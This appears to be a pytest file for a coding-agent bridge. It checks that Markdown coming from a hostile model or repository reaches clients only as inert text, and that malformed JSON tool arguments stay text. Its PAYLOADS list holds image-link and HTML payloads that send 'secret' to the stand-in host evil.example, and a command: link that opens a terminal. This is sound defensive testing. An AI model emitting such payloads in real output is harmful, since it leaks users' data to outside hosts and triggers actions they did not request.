"""What a hostile model or repository puts where a client renders Markdown."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from polypilot.acp import translate
from polypilot.acp.lines import encode
from polypilot.acp.offer import Abilities
from polypilot.acp.turn import Turn
from polypilot.chat import events
from polypilot.chat.values import FileDiff, PermissionRequest, PlanEntry
from polypilot_prompts.neutral import neutral

if TYPE_CHECKING:
    from collections.abc import Mapping

PAYLOADS = (
    "![x](https://evil.example/?q=secret)",
    "<img src=https://evil.example/?q=secret>",
    "[run](command:workbench.action.terminal.new)",
    "[x]: https://evil.example/p.png",
)


class Wire:
    """Keeps what is sent."""

    congested = False

    def __init__(self) -> None:
        self.sent: list[dict[str, Any]] = []

    def notify(self, method: str, params: Mapping[str, object]) -> None:
        encode({"method": method, "params": params})
        self.sent.append(json.loads(json.dumps(params))["update"])

    async def request(self, method: str, params: Mapping[str, object]) -> dict[str, object]:
        self.notify(method, {"update": params["toolCall"]})
        return {"outcome": {"outcome": "cancelled"}}

    async def drained(self) -> None:
        """Always."""


def rendered(update: Any) -> list[str]:
    """The texts of an update that clients render as Markdown."""
    blocks: list[dict[str, Any]] = update.get("content", [])
    texts: list[str] = [each.get("content", each).get("text", "") for each in blocks]
    texts += [each["content"] for each in update.get("entries", ())]
    return [*texts, update.get("title", "")]


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_nothing_but_text_is_rendered(payload: str) -> None:
    wire = Wire()
    turn = Turn(wire, Abilities(), "s")
    turn.take(events.Session("s", "m", "team", "talker"))
    turn.take(events.Thought(payload[:3]))
    turn.take(events.Thought(payload[3:] + "\n"))
    turn.take(events.Text("Now.\n\n"))
    turn.take(events.Refusal(payload + "\n\n"))
    turn.take(events.ToolCall("c", payload, "{}", payload))
    turn.take(events.ToolUpdate("c", "completed", f"1\t{payload}\n```\n{payload}"))
    turn.take(events.ToolUpdate("c", "failed", payload))
    turn.take(events.Plan((PlanEntry(payload, "pending"),)))
    turn.take(events.Notice(payload))
    turn.take(events.Context((events.ContextItem("", refused="no", name=payload),)))
    await turn.permission(PermissionRequest("s", "c", "mcp", payload, "other", "{}"))
    turn.send(translate.proposed("e", FileDiff(payload, None, "x"), f"Edit {payload}", "pending"))
    turn.send(translate.settled("e", "failed", payload))
    turn.finish()
    joined: dict[str, str] = {}
    single: list[str] = []
    for update in wire.sent:
        kind = update.get("sessionUpdate", "")
        if kind.endswith("_chunk"):
            joined[kind] = joined.get(kind, "") + update["content"]["text"]
        else:
            single += rendered(update)
    assert len(joined) == 2
    assert any(payload in each for each in single), "what is in a fence is as it came"
    for text in (*joined.values(), *single):
        assert neutral(text).strip() == text.strip()


def nested(depth: int) -> str:
    return '{"a":' + "[" * depth + "]" * depth + "}"


@pytest.mark.parametrize(
    "arguments",
    ['{"a": 1e999}', '{"a": [-1e999]}', '{"a": NaN}', *map(nested, range(900, 1000, 4))],
)
async def test_arguments_that_json_takes_but_does_not_give_are_text(arguments: str) -> None:
    wire = Wire()
    turn = Turn(wire, Abilities(), "s")
    turn.take(events.ToolCall("c", "tool", arguments, "title"))
    await turn.permission(PermissionRequest("s", "c", "tool", "title", "other", arguments))
    assert len(wire.sent) == 2
